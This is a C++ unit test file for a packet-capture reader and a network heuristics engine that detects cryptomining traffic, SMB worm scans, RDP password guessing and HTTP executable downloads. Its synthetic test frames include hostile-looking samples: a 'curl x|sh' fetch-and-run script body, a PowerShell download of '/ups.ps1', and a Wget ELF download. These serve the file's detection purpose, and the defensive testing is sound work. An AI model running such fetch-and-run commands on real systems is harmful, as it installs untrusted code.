#include "formats/pcap/pcap.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <map>
#include <tuple>

#include "core/mapped_file.h"
#include "formats/pcap/app_protocols.h"
#include "formats/pcap/mining_rpc.h"
#include "normalize/pcap_flows.h"
#include "detect/heuristics/network_mining.h"
#include "support/pcap_writer.h"

namespace msw::formats::pcap {
namespace {
namespace fs = std::filesystem;

// --- frames for the tests (whole captures come from support/pcap_writer) ------------------------------------

void put16be(std::string& s, uint16_t v) {
  s += static_cast<char>(v >> 8);
  s += static_cast<char>(v & 0xFF);
}

// Ethernet (optionally 802.1Q) + IPv4 or IPv6 + TCP or UDP, with `payload`.
std::string frame(bool v6, bool tcp, std::string_view payload, uint16_t sport, uint16_t dport, uint16_t vlan = 0,
                  uint8_t dst_last = 7, uint32_t seq = 0x12345678) {
  std::string l4;
  put16be(l4, sport);
  put16be(l4, dport);
  if (tcp) {
    put16be(l4, static_cast<uint16_t>(seq >> 16));
    put16be(l4, static_cast<uint16_t>(seq));
    put16be(l4, 0);       // ack
    put16be(l4, 0);
    l4 += static_cast<char>(5 << 4);
    l4 += static_cast<char>(0x18);  // PSH ACK
    put16be(l4, 65535);
    put16be(l4, 0);
    put16be(l4, 0);
  } else {
    put16be(l4, static_cast<uint16_t>(8 + payload.size()));
    put16be(l4, 0);
  }
  l4 += payload;
  std::string ip;
  if (!v6) {
    ip += static_cast<char>(0x45);
    ip += '\0';
    put16be(ip, static_cast<uint16_t>(20 + l4.size()));
    put16be(ip, 1);
    put16be(ip, 0x4000);  // DF
    ip += static_cast<char>(64);
    ip += static_cast<char>(tcp ? 6 : 17);
    put16be(ip, 0);
    ip += std::string("\x0a\x00\x00\x05", 4);
    ip += std::string("\xc0\x00\x02", 3) + static_cast<char>(dst_last);
  } else {
    ip += static_cast<char>(0x60);
    ip += std::string(3, '\0');
    put16be(ip, static_cast<uint16_t>(8 + l4.size()));
    ip += static_cast<char>(0);  // hop-by-hop first, then the transport
    ip += static_cast<char>(64);
    ip += std::string("\x20\x01\x0d\xb8", 4) + std::string(11, '\0') + '\x01';
    ip += std::string("\x20\x01\x0d\xb8", 4) + std::string(11, '\0') + '\x02';
    ip += static_cast<char>(tcp ? 6 : 17);  // hop-by-hop: next header, length 0 (8 bytes)
    ip += std::string(7, '\0');
  }
  std::string eth(12, '\x02');
  if (vlan) {
    put16be(eth, 0x8100);
    put16be(eth, vlan);
  }
  put16be(eth, v6 ? 0x86DD : 0x0800);
  return eth + ip + l4;
}

// Whole captures around the frames, one second apart, from the project's capture writer.
std::string classic(const std::vector<std::string>& frames, bool nano = false) {
  test::CaptureWriter w(1'700'000'000'500'000'000);
  for (size_t i = 0; i < frames.size(); ++i) w.frame(frames[i], i == 0 ? 0 : 1'000'000'000);
  return w.pcap(nano);
}

std::string pcapng(const std::vector<std::string>& frames) {
  test::CaptureWriter w(1'700'000'000'123'456'789);
  for (size_t i = 0; i < frames.size(); ++i) w.frame(frames[i], i == 0 ? 0 : 1'000'000'000);
  return w.pcapng();
}

// What the network engine finds in a capture's flows.
std::vector<model::Finding> network_findings(const normalize::CaptureFlows& flows, std::string_view path) {
  auto engine = detect::heuristics::make_network_mining_engine();
  std::vector<model::Finding> found;
  engine->scan_artefact({path, "", "packet_capture", "", "", flows.flows}, found);
  return found;
}

std::vector<std::pair<Packet, std::optional<Decoded>>> read_all(const std::string& bytes, Diagnostics& d) {
  std::vector<std::pair<Packet, std::optional<Decoded>>> out;
  auto r = read_capture(as_bytes(bytes), "t.pcap", d, [&](const Packet& p) {
    out.emplace_back(p, decode(p.link_type, p.data));
    return true;
  });
  EXPECT_TRUE(static_cast<bool>(r));
  return out;
}

TEST(Pcap, ClassicAndNgDecodeToTransport) {
  const std::string login = R"({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4AAA","agent":"XMRig/6.21"}})";
  const std::vector<std::string> frames = {frame(false, true, login, 50000, 3333), frame(true, false, "dns?", 5353, 53),
                                           frame(false, true, "", 1, 2, 100)};
  for (int format = 0; format < 3; ++format) {
    Diagnostics d;
    // Packets point into the capture's bytes: they must outlive every use.
    const std::string bytes = format == 0 ? classic(frames) : format == 1 ? classic(frames, true) : pcapng(frames);
    auto all = read_all(bytes, d);
    EXPECT_EQ(d.size(), 0u);
    ASSERT_EQ(all.size(), 3u) << format;
    ASSERT_TRUE(all[0].second);
    const Decoded& a = *all[0].second;
    EXPECT_EQ(a.ip_version, 4);
    EXPECT_EQ(a.src.to_string(), "10.0.0.5");
    EXPECT_EQ(a.dst.to_string(), "192.0.2.7");
    EXPECT_EQ(a.protocol, 6);
    EXPECT_EQ(a.dst_port, 3333);
    EXPECT_EQ(a.tcp_flags, 0x18);
    EXPECT_EQ(as_chars(a.payload), login);
    ASSERT_TRUE(all[1].second);
    EXPECT_EQ(all[1].second->ip_version, 6);
    EXPECT_EQ(all[1].second->protocol, 17);  // found behind the hop-by-hop header
    EXPECT_EQ(all[1].second->src.to_string(), "2001:db8::1");
    EXPECT_EQ(as_chars(all[1].second->payload), "dns?");
    EXPECT_EQ(all[2].second->vlan, 100);
    EXPECT_EQ(all[2].second->dst_port, 2);
    ASSERT_TRUE(all[0].first.time);
    if (format == 2) EXPECT_EQ(all[0].first.time->unix_ns, 1'700'000'000'123'456'789);
    else EXPECT_EQ(all[0].first.time->unix_ns, 1'700'000'000'500'000'000);
  }
}

TEST(Pcap, DamageEndsTheReadWithADiagnostic) {
  const std::vector<std::string> frames(5, frame(false, true, "x", 1, 2));
  std::string c = classic(frames);
  Diagnostics d;
  const std::string cut = c.substr(0, c.size() - 3);
  EXPECT_EQ(read_all(cut, d).size(), 4u);
  EXPECT_EQ(d.items().at(0).code, "pcap.truncated");
  std::string huge = classic(frames);
  huge[24 + 8] = '\xff';  // first packet's captured length
  huge[24 + 11] = '\x7f';
  Diagnostics d2;
  EXPECT_EQ(read_all(huge, d2).size(), 0u);
  EXPECT_EQ(d2.items().at(0).code, "pcap.bad_record");
  std::string ng = pcapng(frames);
  ng[ng.size() - 4] = '\x01';  // the last block's trailing length no longer matters, its leading one does:
  ng[ng.size() - 4 - 4 - 12 - 4] = '\0';
  Diagnostics d3;
  (void)read_all(ng, d3);  // must not crash, whatever it makes of it
  Diagnostics d4;
  EXPECT_FALSE(read_capture(as_bytes(std::string(100, 'x')), "x", d4, [](const Packet&) { return true; }));
  // Decoders refuse what they cannot place.
  EXPECT_FALSE(decode(kLinkEthernet, as_bytes(std::string(10, '\0'))));
  EXPECT_FALSE(decode(kLinkEthernet, as_bytes(std::string(14, '\0'))));  // ethertype 0
  EXPECT_FALSE(decode(9999, as_bytes(frame(false, true, "", 1, 2))));
}

// nDPI's result for mining.pcapng lists its four mining flows with packet counts per direction: the reader and
// decoders must see exactly those packets. monero/bitcoin and every other corpus capture read without a crash.
TEST(PcapCorpus, PacketCountsMatchNdpiAndEveryCaptureReads) {
  const fs::path root = fs::path(MSW_CORPUS_DIR) / "pcap";
  if (!fs::exists(root)) GTEST_SKIP() << "corpus not present";
  const fs::path mining = root / "ndpi/tests/cfgs/default/pcap/mining.pcapng";
  auto file = MappedFile::open(mining.string());
  ASSERT_TRUE(file);
  using Key = std::tuple<std::string, uint16_t, std::string, uint16_t>;
  std::map<Key, std::pair<uint64_t, uint64_t>> flows;  // client->server packets, bytes
  Diagnostics d;
  auto info = read_capture(file->bytes(), mining.string(), d, [&](const Packet& p) {
    if (auto dec = decode(p.link_type, p.data); dec && dec->protocol == 6) {
      auto& f = flows[{dec->src.to_string(), dec->src_port, dec->dst.to_string(), dec->dst_port}];
      ++f.first;
      f.second += p.original_length;
    }
    return true;
  });
  ASSERT_TRUE(info);
  EXPECT_TRUE(info->pcapng);
  EXPECT_EQ((flows[{"192.168.2.148", 46838, "94.23.199.191", 3333}]), (std::pair<uint64_t, uint64_t>{159, 143155}));
  EXPECT_EQ((flows[{"94.23.199.191", 3333, "192.168.2.148", 46838}]), (std::pair<uint64_t, uint64_t>{113, 13204}));
  EXPECT_EQ((flows[{"147.229.13.222", 49307, "185.71.66.39", 9999}].first), 112u);
  EXPECT_EQ((flows[{"192.168.2.92", 55190, "178.32.196.217", 9050}].first), 83u);
  EXPECT_EQ((flows[{"192.168.2.148", 53846, "116.211.167.195", 3333}].first), 24u);

  size_t files = 0, packets = 0, decoded = 0;
  for (fs::recursive_directory_iterator it(root), end; it != end; ++it) {
    if (!it->is_regular_file()) continue;
    auto f = MappedFile::open(it->path().string());
    if (!f || !looks_like_capture(f->bytes())) continue;
    ++files;
    Diagnostics fd;
    auto r = read_capture(f->bytes(), it->path().string(), fd, [&](const Packet& p) {
      ++packets;
      decoded += decode(p.link_type, p.data).has_value();
      return true;
    });
    EXPECT_TRUE(r) << it->path();
  }
  std::cout << "pcap corpus: " << files << " captures, " << packets << " packets, " << decoded << " decoded to IP\n";
  EXPECT_GE(files, 49u);  // every capture of the corpus, found by its bytes
  EXPECT_GT(decoded * 10, packets * 9);  // nearly everything in the public captures is IP
}

TEST(MiningRpc, DialectsAndWhatIsNotMining) {
  auto m = parse_mining_rpc(R"j({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4AbC.w1","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64)","algo":["rx/0","cn/r"]}})j");
  ASSERT_TRUE(m);
  EXPECT_EQ(m->dialect, MiningDialect::Monero);
  EXPECT_EQ(m->user, "4AbC.w1");
  EXPECT_EQ(m->agent, "XMRig/6.21.0 (Linux x86_64)");
  EXPECT_EQ(m->algorithm, "rx/0,cn/r");
  m = parse_mining_rpc(R"({"id":2,"method":"mining.authorize","params":["t1abc.rig","pw"]})" "\r\n");
  ASSERT_TRUE(m);
  EXPECT_EQ(m->dialect, MiningDialect::Stratum);
  EXPECT_EQ(m->password, "pw");
  m = parse_mining_rpc(R"({"worker":"rig1","jsonrpc":"2.0","params":["0xabc","x"],"id":1,"method":"eth_submitLogin"})");
  ASSERT_TRUE(m);
  EXPECT_EQ(m->dialect, MiningDialect::Ethereum);
  EXPECT_EQ(m->user, "0xabc");
  m = parse_mining_rpc("POST / HTTP/1.1\r\nHost: pool\r\nContent-Type: application/json\r\n\r\n"
                       R"({"method":"getblocktemplate","params":[],"id":0})");
  ASSERT_TRUE(m);
  EXPECT_EQ(m->dialect, MiningDialect::Getwork);
  m = parse_mining_rpc(R"({"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","job":{"blob":"0606","job_id":"7","target":"b88d0600","algo":"rx/0"},"status":"OK"}})");
  ASSERT_TRUE(m);
  EXPECT_EQ(m->algorithm, "rx/0");
  // Not mining: other JSON-RPC, a "login" that is not XMRig's, a method name that only starts like stratum, deep
  // nesting, binary P2P, a truncated line.
  EXPECT_FALSE(parse_mining_rpc(R"({"jsonrpc":"2.0","method":"getinfo","id":1})"));
  EXPECT_FALSE(parse_mining_rpc(R"({"method":"login","params":{"user":"alice","password":"x"}})"));
  EXPECT_FALSE(parse_mining_rpc(R"({"method":"mining.steal","params":[]})"));
  EXPECT_FALSE(parse_mining_rpc("{\"method\":\"login\",\"params\":" + std::string(5000, '[') + std::string(5000, ']') + "}"));
  static constexpr char kLevin[] = "\x01\x21\x01\x01\x01\x01\x01\x01node_data\"method\"";
  EXPECT_FALSE(parse_mining_rpc(std::string_view(kLevin, sizeof kLevin - 1)));
  EXPECT_FALSE(parse_mining_rpc(R"({"id":1,"method":"mining.subscribe","params":["EWBF")"));
}

TEST(PcapFlows, GeneratedXmrigLoginBecomesAMiningFlow) {
  const std::string login = R"({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":")" + std::string(95, '4') +
                            R"(","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}})" "\n";
  // The login arrives cut in two packets, then the pool answers; a DNS flow beside it is not mining.
  const std::vector<std::string> frames = {frame(false, true, login.substr(0, 40), 50000, 3333),
                                           frame(false, true, login.substr(40), 50000, 3333, 0, 7, 0x12345678 + 40),
                                           frame(true, false, "dns?", 5353, 53)};
  Diagnostics d;
  const std::string bytes = pcapng(frames);
  auto flows = normalize::capture_flows(as_bytes(bytes), "x.pcapng", d);
  ASSERT_TRUE(flows);
  ASSERT_EQ(flows->flows.size(), 2u);
  const model::Event& f = flows->flows[0];
  EXPECT_EQ(*f.get(model::Field::DestinationPort), "3333");
  ASSERT_TRUE(f.get("MiningProtocol"));
  EXPECT_EQ(*f.get("MiningProtocol"), "monero-stratum");
  EXPECT_EQ(*f.get("MiningAgent"), "XMRig/6.21.0");
  EXPECT_EQ(*f.get("MiningFirstPacket"), "2");  // the packet that completed the line
  EXPECT_EQ(*f.get("PacketsSent"), "2");
  EXPECT_FALSE(flows->flows[1].get("MiningProtocol"));
}

TEST(PcapFlows, SmbScanAndLoginBurstShapes) {
  std::vector<std::string> frames;
  for (uint8_t host = 1; host <= 25; ++host) frames.push_back(frame(false, true, "", 40000, 445, 0, host));  // a scan
  for (uint16_t i = 0; i < 35; ++i) frames.push_back(frame(false, true, "", static_cast<uint16_t>(50000 + i), 3389));
  for (uint16_t i = 0; i < 5; ++i) frames.push_back(frame(false, true, "", static_cast<uint16_t>(51000 + i), 22));
  Diagnostics d;
  const std::string bytes = classic(frames);
  auto flows = normalize::capture_flows(as_bytes(bytes), "lan.pcap", d);
  ASSERT_TRUE(flows);
  EXPECT_EQ(flows->flows.size(), 65u);
  const auto found = network_findings(*flows, "lan.pcap");
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0].rule_id, detect::heuristics::kSmbScanRule);
  EXPECT_EQ(found[0].title_en, "10.0.0.5 opened SMB to 25 addresses (worm spreading)");
  EXPECT_EQ(found[1].rule_id, detect::heuristics::kLoginBurstRule);
  EXPECT_EQ(found[1].title_en, "35 RDP connections from 10.0.0.5 to 192.0.2.7 (password guessing?)");
}

std::string dns_message(bool response, std::string_view name, uint8_t answer_last = 0) {
  std::string m;
  put16be(m, 0x1234);
  put16be(m, response ? 0x8180 : 0x0100);
  put16be(m, 1);
  put16be(m, response ? 1 : 0);
  put16be(m, 0);
  put16be(m, 0);
  for (size_t start = 0; start <= name.size();) {
    size_t dot = name.find('.', start);
    if (dot == std::string_view::npos) dot = name.size();
    m += static_cast<char>(dot - start);
    m += name.substr(start, dot - start);
    start = dot + 1;
  }
  m += '\0';
  put16be(m, 1);
  put16be(m, 1);
  if (response) {
    put16be(m, 0xC00C);  // a pointer to the question's name
    put16be(m, 1);
    put16be(m, 1);
    put16be(m, 0);
    put16be(m, 60);
    put16be(m, 4);
    m += std::string("\xc6\x33\x64", 3) + static_cast<char>(answer_last);
  }
  return m;
}

std::string client_hello(std::string_view sni) {
  std::string ext;
  put16be(ext, 0);  // server_name
  put16be(ext, static_cast<uint16_t>(sni.size() + 5));
  put16be(ext, static_cast<uint16_t>(sni.size() + 3));
  ext += '\0';
  put16be(ext, static_cast<uint16_t>(sni.size()));
  ext += sni;
  ext += std::string("\x00\x0a\x00\x06\x00\x04\x00\x1d\x00\x17", 10);  // groups x25519, secp256r1
  ext += std::string("\x00\x0b\x00\x02\x01\x00", 6);                  // point formats: uncompressed
  std::string body = std::string("\x03\x03", 2) + std::string(32, '\x11') + '\0';
  body += std::string("\x00\x04\x0a\x0a\x13\x01", 6);  // GREASE, TLS_AES_128_GCM_SHA256
  body += std::string("\x01\x00", 2);
  put16be(body, static_cast<uint16_t>(ext.size()));
  body += ext;
  std::string hs = "\x01" + std::string(1, '\0');
  put16be(hs, static_cast<uint16_t>(body.size()));
  hs += body;
  std::string rec = std::string("\x16\x03\x01", 3);
  put16be(rec, static_cast<uint16_t>(hs.size()));
  return rec + hs;
}

TEST(AppProtocols, DnsTlsAndHttp) {
  auto q = parse_dns(as_bytes(dns_message(true, "Pool.SupportXMR.com", 7)));
  ASSERT_TRUE(q);
  EXPECT_TRUE(q->response);
  EXPECT_EQ(q->questions, std::vector<std::string>{"pool.supportxmr.com"});
  EXPECT_EQ(q->answers, std::vector<std::string>{"198.51.100.7"});
  std::string loop = dns_message(false, "a");
  loop.replace(12, 3, "\xc0\x0c");  // a name that points at itself
  EXPECT_FALSE(parse_dns(as_bytes(loop)));
  auto hello = parse_tls_client_hello(as_bytes(client_hello("Pool.MineXMR.com")));
  ASSERT_TRUE(hello);
  EXPECT_EQ(hello->server_name, "pool.minexmr.com");
  EXPECT_EQ(hello->ja3, "771,4865,0-10-11,29-23,0");  // GREASE left out, as JA3 defines
  EXPECT_EQ(hello->ja3_md5, "3bfdb2fe6bbf6e0b02135c96b7d3607a");
  const std::string h = client_hello("x");
  for (size_t cut = 0; cut < h.size(); ++cut) (void)parse_tls_client_hello(as_bytes(h.substr(0, cut)));  // no crash
  auto req = parse_http_request("GET /ups.ps1 HTTP/1.1\r\nHost: Down.Example.com:8080\r\nUser-Agent: Mozilla/5.0 "
                                "(Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1\r\n\r\n");
  ASSERT_TRUE(req);
  EXPECT_EQ(req->host, "down.example.com:8080");
  EXPECT_EQ(req->target, "/ups.ps1");
  EXPECT_EQ(*http_response_body_kind("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nMZ\x90"), "pe");
  EXPECT_EQ(*http_response_body_kind("HTTP/1.1 200 OK\r\n\r\n#!/bin/sh\ncurl x|sh"), "script");
  EXPECT_EQ(*http_response_body_kind("HTTP/1.1 200 OK\r\n\r\n<html>index</html>"), "");
  EXPECT_FALSE(parse_http_request("SSH-2.0-OpenSSH_9.2\r\n"));
}

TEST(PcapFlows, ApplicationFactsAndDownloads) {
  const std::string get = "GET /x86 HTTP/1.1\r\nHost: 198.51.100.9\r\nUser-Agent: Wget/1.21\r\n\r\n";
  std::string response_frame = frame(false, true, "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\n\x7f" "ELF\x02\x01", 80, 41000);
  // The response comes from the server: swap the addresses of the frame (Ethernet 14 + IPv4 src 12..15, dst 16..19).
  std::swap_ranges(response_frame.begin() + 26, response_frame.begin() + 30, response_frame.begin() + 30);
  const std::vector<std::string> frames = {frame(false, false, dns_message(false, "pool.supportxmr.com"), 5353, 53),
                                           frame(false, true, client_hello("pool.minexmr.com"), 42000, 443),
                                           frame(false, true, get, 41000, 80), response_frame};
  Diagnostics d;
  const std::string bytes = classic(frames);
  auto flows = normalize::capture_flows(as_bytes(bytes), "x.pcap", d);
  ASSERT_TRUE(flows);
  ASSERT_EQ(flows->flows.size(), 3u);
  EXPECT_EQ(*flows->flows[0].get(model::Field::QueryName), "pool.supportxmr.com");
  EXPECT_EQ(*flows->flows[1].get(model::Field::DestinationHostname), "pool.minexmr.com");
  EXPECT_EQ(*flows->flows[1].get("TlsJa3Hash"), "3bfdb2fe6bbf6e0b02135c96b7d3607a");
  EXPECT_EQ(*flows->flows[2].get("Url"), "http://198.51.100.9/x86");
  EXPECT_EQ(*flows->flows[2].get("HttpResponseBody"), "elf");
  const auto found = network_findings(*flows, "x.pcap");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].rule_id, detect::heuristics::kHttpPayloadRule);
  EXPECT_EQ(found[0].title_en, "10.0.0.5 fetched a Linux executable over HTTP: http://198.51.100.9/x86");
}

// The oracles of the public captures: nDPI's four mining flows and Peafowl's stratum and XMRig-style captures are
// mining (with their users and agents); Monero and Bitcoin peer-to-peer captures are not.
TEST(PcapCorpus, MiningFlowsAndPeerToPeer) {
  const fs::path root = fs::path(MSW_CORPUS_DIR) / "pcap";
  if (!fs::exists(root)) GTEST_SKIP() << "corpus not present";
  auto mining_flows = [&](const fs::path& p) {
    std::map<std::string, std::string> out;  // "client:port->server:port" -> "dialect user agent"
    auto file = MappedFile::open(p.string());
    EXPECT_TRUE(file) << p;
    if (!file) return out;
    Diagnostics d;
    auto flows = normalize::capture_flows(file->bytes(), p.string(), d);
    EXPECT_TRUE(flows) << p;
    if (!flows) return out;
    for (const auto& e : flows->flows)
      if (const std::string* dialect = e.get("MiningProtocol")) {
        const std::string* user = e.get("MiningUser");
        out[*e.get(model::Field::SourceIp) + ":" + *e.get(model::Field::SourcePort) + "->" +
            *e.get(model::Field::DestinationIp) + ":" + *e.get(model::Field::DestinationPort)] =
            *dialect + " " + (user ? *user : "");
      }
    return out;
  };
  auto ndpi = mining_flows(root / "ndpi/tests/cfgs/default/pcap/mining.pcapng");
  EXPECT_EQ(ndpi.size(), 4u);
  EXPECT_EQ(ndpi["192.168.2.148:46838->94.23.199.191:3333"], "stratum t1fAhZF5aUJdY7CikGULHmeYk7id8qmvbAd.rig4");
  EXPECT_TRUE(ndpi["147.229.13.222:49307->185.71.66.39:9999"].starts_with("ethereum-stratum 0x9c99d212"));
  EXPECT_TRUE(ndpi["192.168.2.92:55190->178.32.196.217:9050"].starts_with("monero-stratum 4BCeEPho"));
  EXPECT_TRUE(ndpi["192.168.2.148:53846->116.211.167.195:3333"].starts_with("stratum t1fJuHWrfc"));
  EXPECT_EQ(mining_flows(root / "peafowl/test/pcaps/stratum.pcap").size(), 2u);  // two rigs of one host
  EXPECT_EQ(mining_flows(root / "peafowl/test/pcaps/monero.pcap").size(), 1u);
  EXPECT_TRUE(mining_flows(root / "ndpi/tests/cfgs/default/pcap/monero.pcap").empty()) << "Monero P2P is not mining";
  EXPECT_TRUE(mining_flows(root / "ndpi/tests/cfgs/default/pcap/bitcoin.pcap").empty()) << "Bitcoin P2P is not mining";
  EXPECT_TRUE(mining_flows(root / "peafowl/test/pcaps/bitcoin.pcap").empty());
}

}  // namespace
}  // namespace msw::formats::pcap
